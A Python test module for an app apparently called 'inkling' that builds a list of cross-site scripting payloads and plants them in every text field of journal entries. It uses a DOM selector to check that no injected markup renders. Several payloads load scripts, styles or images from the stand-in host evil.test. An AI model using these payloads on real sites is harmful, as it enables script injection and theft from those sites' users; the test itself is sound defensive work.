"""Words that would run if a page took them for markup, and entries with such words in every field that holds words."""

from collections.abc import Callable
from typing import Any

import msgspec

from inkling.journal import Entry

_ENDS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</option></select>", "</svg>", "]]>")
_RUNS = (
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "<svg><script>ran(1)</script></svg>",
    '<iframe src="javascript:parent.ran(1)"></iframe>',
    '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
    "<details open ontoggle=ran(1)>",
    "<input autofocus onfocus=ran(1)>",
    "<video><source onerror=ran(1)></video>",
    '<object data="javascript:ran(1)"></object>',
    '<a href="javascript:ran(1)">go</a>',
    '<form action="javascript:ran(1)"><button>go</button></form>',
    "<link rel=stylesheet href=http://evil.test/look.css>",
    "<img src=http://evil.test/seen.png>",
    "<style>@import 'http://evil.test/look.css';</style>",
    '<meta http-equiv=refresh content="0;url=http://evil.test/">',
    "<script type=module src=http://evil.test/run.js></script>",
    "<math><mtext><style><img src=x onerror=ran(1)></style></mtext></math>",
    '" autofocus onfocus=ran(1) onmouseover=alert(1) x="',
    "{{ 7|add:7 }}${ran(1)}<script>alert(1)</script>",
)
PAYLOADS = tuple(end + run for run in _RUNS for end in _ENDS)

MADE_OF_WORDS = """() => [...document.querySelectorAll(
    `script:not([src="/static/shell/inkling.js"]), iframe, object, embed, video, math, meta[http-equiv], base, style,
    link:not([href^="/static/"]), img:not([src^="/"]), [onload], [onerror], [onfocus], [ontoggle], [onmouseover],
    [href^="javascript:" i], [action^="javascript:" i]`
)].map(found => found.outerHTML.slice(0, 80))"""
"""What none of our pages has: asked of a page, markup that somebody's words became."""

_NOT_WORDS = {"zone", "earlier", "measure", "series", "key"}


def saying(entry: Entry, word: Callable[[], str]) -> Entry:
    """The same entry with such a word in every field that holds words."""
    return _said(entry, msgspec.inspect.type_info(type(entry)), word)  # type: ignore[no-any-return]


def _said(value: Any, kind: msgspec.inspect.Type, word: Callable[[], str]) -> Any:
    match kind:
        case msgspec.inspect.StrType():
            return word()
        case msgspec.inspect.StructType(fields=fields):
            changed = {
                each.name: _said(getattr(value, each.name), each.type, word)
                for each in fields
                if each.name not in _NOT_WORDS
            }
            return msgspec.structs.replace(value, **changed)
        case msgspec.inspect.VarTupleType(item_type=item):
            words = isinstance(item, msgspec.inspect.StrType) and not value
            return (word(),) if words else tuple(_said(each, item, word) for each in value)
    return value
